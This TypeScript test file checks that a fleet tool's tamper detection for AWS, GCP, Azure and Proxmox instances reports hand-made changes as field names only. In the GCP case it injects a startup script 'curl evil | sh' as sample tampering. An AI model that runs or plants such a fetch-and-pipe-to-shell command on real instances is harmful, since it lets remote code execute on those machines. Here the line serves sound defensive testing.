/**
 * Each provider's launch facts (facts.ts): an instance launched from a template and left alone
 * reports exactly what `expectedFacts` says (no churn), whatever form the cloud writes its ids in;
 * each change by hand shows as the field it changed, never as a value.
 */
import assert from 'node:assert/strict';
import type { LaunchTemplate } from '../../src/contract/fleet.ts';
import { modifiedFields } from '../../src/plan/tamper.ts';
import * as aws from '../../providers/aws/facts.ts';
import * as gcp from '../../providers/gcp/facts.ts';
import * as azure from '../../providers/azure/facts.ts';
import * as pve from '../../providers/proxmox/facts.ts';

function template(over: Partial<LaunchTemplate> = {}): LaunchTemplate {
  return {
    provider: 'cloud',
    imageDigest: `sha256:${'0'.repeat(64)}`,
    artifact: { id: 'img-1' },
    machine: { type: 'small' },
    placement: {},
    userData: undefined,
    disks: [],
    tags: { team: 'web' },
    ...over,
  };
}

describe('providers: launch facts for tamper detection', () => {
  it('aws: a fresh instance matches its template; the profile is read from its ARN, none is a fact too', () => {
    const t = template({
      artifact: { id: 'ami-0abc' },
      machine: { type: 't3.small' },
      placement: { subnets: { 'eu-west-1a': 'subnet-0a' }, securityGroups: ['sg-2', 'sg-1'], instanceProfile: 'web' },
    });
    const instance = {
      InstanceType: 't3.small',
      ImageId: 'ami-0abc',
      SubnetId: 'subnet-0a',
      SecurityGroups: [{ GroupId: 'sg-1' }, { GroupId: 'sg-2' }],
      IamInstanceProfile: { Arn: 'arn:aws:iam::123456789012:instance-profile/teams/web' },
      MetadataOptions: { HttpTokens: 'required', HttpEndpoint: 'enabled' },
      Tags: [
        { Key: 'team', Value: 'web' },
        { Key: 'drover:fleet', Value: 'prod' },
      ],
    } as const;
    const expected = aws.expectedFacts(t, 'eu-west-1a');
    assert.deepEqual(modifiedFields(expected, aws.observedFacts(instance as never)), []);
    const tampered = { ...instance, IamInstanceProfile: undefined, MetadataOptions: { HttpTokens: 'optional', HttpEndpoint: 'enabled' } };
    assert.deepEqual(modifiedFields(expected, aws.observedFacts(tampered as never)), ['instanceProfile', 'metadataOptions']);
    const noProfile = aws.expectedFacts(template({ artifact: { id: 'ami-0abc' }, machine: { type: 't3.small' } }), 'eu-west-1a');
    assert.deepEqual(modifiedFields(noProfile, aws.observedFacts(instance as never)), ['instanceProfile'], 'a profile attached by hand');
  });

  it('gcp: network and subnetwork in any written form; the metadata as digests, drover’s own items aside', () => {
    assert.equal(gcp.networkPath('https://www.googleapis.com/compute/v1/projects/p/global/networks/prod'), 'global/networks/prod');
    assert.equal(gcp.networkPath('prod'), 'global/networks/prod');
    assert.equal(gcp.subnetworkPath('projects/p/regions/europe-west1/subnetworks/app'), 'regions/europe-west1/subnetworks/app');
    const t = template({
      machine: { type: 'e2-small' },
      placement: {
        network: 'projects/p/global/networks/prod',
        subnet: 'regions/europe-west1/subnetworks/app',
        sshKeys: ['ssh-ed25519 AAAA k'],
      },
      userData: '#cloud-config\n',
      disks: [{ sizeGiB: 20 }],
    });
    const items = [
      { key: 'drover-digest', value: 'sha256:x' },
      { key: 'drover-revision', value: 'abc' },
      { key: 'user-data', value: '#cloud-config\n' },
      { key: 'ssh-keys', value: 'drover:ssh-ed25519 AAAA k' },
    ];
    const instance = {
      name: 'web-1',
      machineType: 'https://www.googleapis.com/compute/v1/projects/p/zones/europe-west1-b/machineTypes/e2-small',
      labels: { team: 'web' },
      metadata: { items },
      networkInterfaces: [
        {
          network: 'https://www.googleapis.com/compute/v1/projects/p/global/networks/prod',
          subnetwork: 'https://www.googleapis.com/compute/v1/projects/p/regions/europe-west1/subnetworks/app',
        },
      ],
      disks: [
        { boot: true, source: 'https://…/zones/europe-west1-b/disks/web-1' },
        { boot: false, diskSizeGb: '20' },
      ],
    };
    const expected = gcp.expectedFacts(t);
    assert.deepEqual(modifiedFields(expected, gcp.observedFacts(instance)), []);
    const script = { ...instance, metadata: { items: [...items, { key: 'startup-script', value: 'curl evil | sh' }] } };
    const found = modifiedFields(expected, gcp.observedFacts(script));
    assert.deepEqual(found, ['metadata']);
    assert.ok(!JSON.stringify(gcp.observedFacts(script)).includes('evil'), 'digests, never values');
  });

  it('azure: ids compared case-insensitively; the primary NIC must be the VM’s own', () => {
    const subnet = '/subscriptions/s/resourceGroups/net/providers/Microsoft.Network/virtualNetworks/v/subnets/app';
    const t = template({
      artifact: { id: '/subscriptions/s/.../versions/1.0.1' },
      machine: { type: 'Standard_B2s' },
      placement: { subnet },
    });
    const nicId = '/subscriptions/s/resourceGroups/rg/providers/Microsoft.Network/networkInterfaces/web-1-nic';
    const nics = new Map([
      [nicId.toLowerCase(), { id: nicId, ipConfigurations: [{ primary: true, subnet: { id: subnet.toUpperCase() } }] }],
    ]);
    const vm = {
      id: '/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-1',
      name: 'web-1',
      tags: { team: 'web' },
      hardwareProfile: { vmSize: 'standard_b2s' },
      storageProfile: { imageReference: { id: '/SUBSCRIPTIONS/s/.../versions/1.0.1' }, dataDisks: [] },
      networkProfile: { networkInterfaces: [{ id: nicId, primary: true }] },
      timeCreated: new Date(0),
    };
    const times = new azure.CreationTimes();
    const expected = azure.expectedFacts(t);
    assert.deepEqual(modifiedFields(expected, azure.observedFacts(vm as never, nics as never, times.recorded(vm as never))), []);
    const swapped = { ...vm, networkProfile: { networkInterfaces: [{ id: nicId.replace('web-1-nic', 'other-nic'), primary: true }] } };
    assert.deepEqual(modifiedFields(expected, azure.observedFacts(swapped as never, nics as never, times.recorded(vm as never))), ['nic']);
    const recreated = { ...vm, timeCreated: new Date(1000) };
    assert.deepEqual(modifiedFields(expected, azure.observedFacts(recreated as never, nics as never, times.recorded(recreated as never))), [
      'timeCreated',
    ]);
  });

  it('proxmox: disks and bridge parsed from the config; the digest against the recorded one; unset template fields not compared', () => {
    const config = {
      cores: 2,
      memory: '2048',
      net0: 'virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=1',
      scsi1: 'local-lvm:vm-5001-disk-1,size=20G',
      digest: 'd1',
    };
    const t = template({
      machine: { cores: 2, memoryMiB: 2048 },
      placement: { network: 'vmbr0' },
      disks: [{ sizeGiB: 20, type: 'local-lvm' }],
    });
    const book = new pve.DigestBook();
    assert.deepEqual(modifiedFields(pve.expectedFacts(t), pve.observedFacts(config, book.recordedOr(5001, 'd1'))), []);
    const changed = { ...config, net0: 'virtio,bridge=vmbr9', digest: 'd2' };
    assert.deepEqual(modifiedFields(pve.expectedFacts(t), pve.observedFacts(changed, book.recordedOr(5001, 'd2'))), ['digest', 'network']);
    const bare = pve.expectedFacts(template({ machine: {} }));
    assert.deepEqual(bare, {}, 'a template that sets nothing compares nothing but the digest');
  });
});
